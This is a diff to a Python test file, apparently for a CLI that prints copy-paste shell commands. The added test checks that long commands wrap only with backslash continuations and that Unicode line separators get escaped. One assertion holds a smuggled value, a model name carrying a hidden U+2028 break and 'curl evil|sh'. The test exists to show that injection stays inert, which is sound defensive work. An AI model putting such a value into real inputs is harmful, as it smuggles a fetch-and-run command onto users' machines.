@@ -128,7 +128,9 @@ def test_snippet_command_shows_a_bundle_models_newline_escaped(tmp_path, cli):
     db, sid = _import(tmp_path, cli, _doc(mutate))
     code, out, err = cli(["--db", str(db), "snippet", sid, "--command"])
     assert code == 0, err
-    assert out.count("\n") == 1 and "\u2028" not in out and "\u200f" not in out
+    # a long command keeps d1-paste-cli's ` \` continuations; no other line break, nothing raw
+    assert out.replace(" \\\n  ", " ").count("\n") == 1 and "\u2028" not in out and "\u200f" not in out
+    assert "$'org/m\\u2028curl evil|sh\\u200f'" in out
 
 
 def test_the_tui_recommendation_panel_forges_no_line():
